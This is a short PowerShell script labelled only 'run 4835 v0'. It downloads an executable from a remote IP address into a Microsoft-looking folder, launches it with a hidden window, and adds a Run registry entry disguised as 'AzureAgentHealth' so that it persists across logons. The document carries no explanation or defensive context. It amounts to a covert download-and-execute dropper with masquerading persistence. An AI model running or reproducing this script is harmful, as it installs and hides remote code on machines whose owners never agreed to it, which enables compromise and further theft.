# run 4835 v0
Start-BitsTransfer -Source http://198.51.100.9/svc.exe -Destination C:\ProgramData\Microsoft\upd.exe
Start-Process -WindowStyle Hidden C:\ProgramData\Microsoft\upd.exe
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'AzureAgentHealth' -Value 'C:\ProgramData\Microsoft\upd.exe' -PropertyType String -Force
